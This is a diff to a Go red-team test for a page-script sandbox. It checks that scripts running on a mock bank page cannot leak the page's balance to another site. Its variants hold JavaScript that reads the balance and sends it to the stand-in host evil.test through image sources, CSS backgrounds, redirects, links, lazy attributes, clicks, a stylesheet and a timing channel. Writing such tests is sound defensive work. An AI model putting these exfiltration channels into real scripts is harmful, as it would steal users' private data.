@@ -36,20 +36,6 @@ new MutationObserver((ms) => {
 }).observe(document.body, {childList: true, subtree: true});
 </script></body></html>`
 
-// ownSitesVariants are the remixlets' writes by name; each reads secret from the page first.
-var ownSitesVariants = map[string]string{
-	"img":   `await dom.insert(box, await dom.create({ tag: 'img', attrs: { src: 'https://evil.test/img/' + secret } }));`,
-	"css":   `await dom.addStyle('#box { background-image: url(https://evil.test/css/' + secret + '); }');`,
-	"redir": `await dom.insert(box, await dom.create({ tag: 'img', attrs: { src: '/r?to=' + encodeURIComponent('https://evil.test/redir/' + secret) } }));`,
-	"link":  `await dom.insert(box, await dom.create({ tag: 'a', attrs: { id: 'rxlink', href: 'https://evil.test/link/' + secret }, text: 'your statement' }));`,
-	"clone": `for (let i = 0; i < Number(secret[0]); i++) { await dom.insert(box, await dom.clone(await dom.query('#card'), true)); await new Promise((r) => setTimeout(r, 200)); }`,
-	"lazy":  `await dom.insert(box, await dom.create({ tag: 'span', attrs: { 'data-src': 'https://evil.test/lazy/' + secret }, text: '…' }));`,
-	"client": `const a = await dom.create({ tag: 'a', attrs: { href: '/go?to=' + encodeURIComponent('https://evil.test/client/' + secret) }, text: 'next' });
-await dom.insert(box, a); await dom.setText(await dom.query('#done'), 'done'); await dom.click(a);`,
-	"sheet": `/* style.css: #box { background-image: url(https://evil.test/sheet/static) } */`,
-	"every": `await dom.insert(box, await dom.create({ tag: 'img', attrs: { src: 'https://evil.test/every/' + secret } }));`,
-}
-
 const ownSitesScript = `const secret = (await dom.text(await dom.query('#balance'))).trim();
 const box = await dom.query('#box');
 try {
@@ -89,46 +75,42 @@ func TestRedteamOwnSitesReceiveNothingFromAnotherSite(t *testing.T) {
 		"img.bank.test": sub,
 	}, e2etest.WithStore())
 
+	// Each remixlet reads secret from the page first; its script is ownSitesScript around body.
 	type variant struct {
 		name    string
-		matches []string
+		body    string
+		matches []string // nil: its page and evil.test
 		perms   string
 		want    string // the path that must not reach evil.test ("" for the controls)
 		control string // the host and path that must be reached
 	}
+	img := func(addr string) string {
+		return `await dom.insert(box, await dom.create({ tag: 'img', attrs: { src: ` + addr + ` } }));`
+	}
 	variants := []variant{
-		{name: "img", want: "/img/4711"},
-		{name: "css", want: "/css/4711"},
-		{name: "redir", want: "/redir/4711"},
-		{name: "link", want: "/link/4711"},
-		{name: "clone", want: "/planted"},
-		{name: "lazy", want: "/lazy/4711"},
-		{name: "client", want: "/client/4711"},
-		{name: "sheet", want: "/sheet/static"},
-		{name: "every", matches: []string{"https://*/v/every"}, want: "/every/4711"},
+		{name: "img", body: img(`'https://evil.test/img/' + secret`), want: "/img/4711"},
+		{name: "css", body: `await dom.addStyle('#box { background-image: url(https://evil.test/css/' + secret + '); }');`, want: "/css/4711"},
+		{name: "redir", body: img(`'/r?to=' + encodeURIComponent('https://evil.test/redir/' + secret)`), want: "/redir/4711"},
+		{name: "link", body: `await dom.insert(box, await dom.create({ tag: 'a', attrs: { id: 'rxlink', href: 'https://evil.test/link/' + secret }, text: 'your statement' }));`, want: "/link/4711"},
+		{name: "clone", body: `for (let i = 0; i < Number(secret[0]); i++) { await dom.insert(box, await dom.clone(await dom.query('#card'), true)); await new Promise((r) => setTimeout(r, 200)); }`, want: "/planted"},
+		{name: "lazy", body: `await dom.insert(box, await dom.create({ tag: 'span', attrs: { 'data-src': 'https://evil.test/lazy/' + secret }, text: '…' }));`, want: "/lazy/4711"},
+		{name: "client", body: `const a = await dom.create({ tag: 'a', attrs: { href: '/go?to=' + encodeURIComponent('https://evil.test/client/' + secret) }, text: 'next' });
+await dom.insert(box, a); await dom.setText(await dom.query('#done'), 'done'); await dom.click(a);`, want: "/client/4711"},
+		{name: "sheet", body: `// its style.css loads from evil.test`, want: "/sheet/static"},
+		{name: "every", body: img(`'https://evil.test/every/' + secret`), matches: []string{"https://*/v/every"}, want: "/every/4711"},
 		// Controls: the page's own site, and a host the person granted.
-		{name: "subdomain", matches: []string{"https://bank.test/v/subdomain", "https://img.bank.test/*"}, control: "img.bank.test/sub/4711"},
-		{name: "granted", perms: `{"name": "fetch:evil.test", "reason": "its images"}`, control: "evil.test/granted/4711"},
+		{name: "subdomain", body: img(`'https://img.bank.test/sub/' + secret`), matches: []string{"https://bank.test/v/subdomain", "https://img.bank.test/*"}, control: "img.bank.test/sub/4711"},
+		{name: "granted", body: img(`'https://evil.test/granted/' + secret`), perms: `{"name": "fetch:evil.test", "reason": "its images"}`, control: "evil.test/granted/4711"},
 	}
 	ids := map[string]string{}
 	for _, v := range variants {
-		body, ok := ownSitesVariants[v.name]
-		switch v.name {
-		case "subdomain":
-			body, ok = `await dom.insert(box, await dom.create({ tag: 'img', attrs: { src: 'https://img.bank.test/sub/' + secret } }));`, true
-		case "granted":
-			body, ok = `await dom.insert(box, await dom.create({ tag: 'img', attrs: { src: 'https://evil.test/granted/' + secret } }));`, true
-		}
-		if !ok {
-			t.Fatalf("no script for %s", v.name)
-		}
 		matches := v.matches
 		if matches == nil {
 			matches = []string{"https://bank.test/v/" + v.name, "https://evil.test/*"}
 		}
 		files := store.Files{
 			sandbox.ManifestFile: ownSitesManifest("own sites "+v.name, matches, v.perms),
-			sandbox.ScriptFile:   []byte(fmt.Sprintf(ownSitesScript, body)),
+			sandbox.ScriptFile:   []byte(fmt.Sprintf(ownSitesScript, v.body)),
 		}
 		if v.name == "sheet" {
 			files[sandbox.StyleFile] = []byte(`#box { background-image: url(https://evil.test/sheet/static); }`)
